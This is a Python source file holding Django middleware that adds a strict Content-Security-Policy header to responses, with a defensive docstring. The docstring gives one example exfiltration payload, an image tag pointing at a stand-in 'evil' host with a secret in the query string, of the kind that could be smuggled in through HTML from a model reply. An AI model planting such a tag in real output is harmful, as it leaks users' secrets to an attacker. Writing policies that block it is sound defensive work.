"""A strict Content-Security-Policy on every response (Django 5.2 has none built in).

The pages load scripts and styles only from this origin and run no inline script, so
an injected `<script>` or `onerror=` does nothing. `img-src` admits no other origin:
even if some HTML from a model reply carried an `<img src="https://evil/?secret">`
past the server's sanitizer, the browser would not fetch it (a data-exfiltration
path). `connect-src` names the websocket of the host the page came from, as older
browsers do not count ws:/wss: as 'self'.

Views may set their own header; the middleware leaves one that is already there.
Paths in `PARLEY_CSP_EXTRA` (prefix -> {directive: [sources]}) get sources added:
the API's Swagger page needs its CDN and an inline bootstrap script.
"""

from __future__ import annotations

from django.conf import settings
from django.core.exceptions import DisallowedHost
from django.http import HttpRequest, HttpResponse
from django.utils.deprecation import MiddlewareMixin

HEADER = "Content-Security-Policy"

BASE_POLICY: dict[str, list[str]] = {
    "default-src": ["'self'"],
    "script-src": ["'self'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:", "blob:"],
    "media-src": ["'self'", "blob:"],
    "font-src": ["'self'"],
    "connect-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
}


def policy_for(request: HttpRequest) -> str:
    directives = {name: list(sources) for name, sources in BASE_POLICY.items()}
    try:
        host = request.get_host()
    except DisallowedHost:
        host = None  # the 400 for a bad Host header gets the policy without a websocket
    if host:
        scheme = "wss" if request.is_secure() else "ws"
        directives["connect-src"].append(f"{scheme}://{host}")
    for prefix, extra in getattr(settings, "PARLEY_CSP_EXTRA", {}).items():
        if request.path.startswith(prefix):
            for name, sources in extra.items():
                directives.setdefault(name, []).extend(sources)
    return "; ".join(f"{name} {' '.join(sources)}" for name, sources in directives.items())


class ContentSecurityPolicyMiddleware(MiddlewareMixin):
    def process_response(self, request: HttpRequest, response: HttpResponse) -> HttpResponse:
        if HEADER not in response:
            response[HEADER] = policy_for(request)
        return response
